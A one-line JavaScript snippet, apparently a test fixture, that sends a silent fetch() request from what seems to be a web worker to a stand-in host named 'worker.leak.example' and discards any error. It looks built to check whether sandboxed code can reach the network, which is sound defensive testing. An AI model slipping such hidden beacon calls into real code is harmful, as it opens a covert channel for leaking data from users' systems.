fetch('https://worker.leak.example/from-worker').catch(() => {});
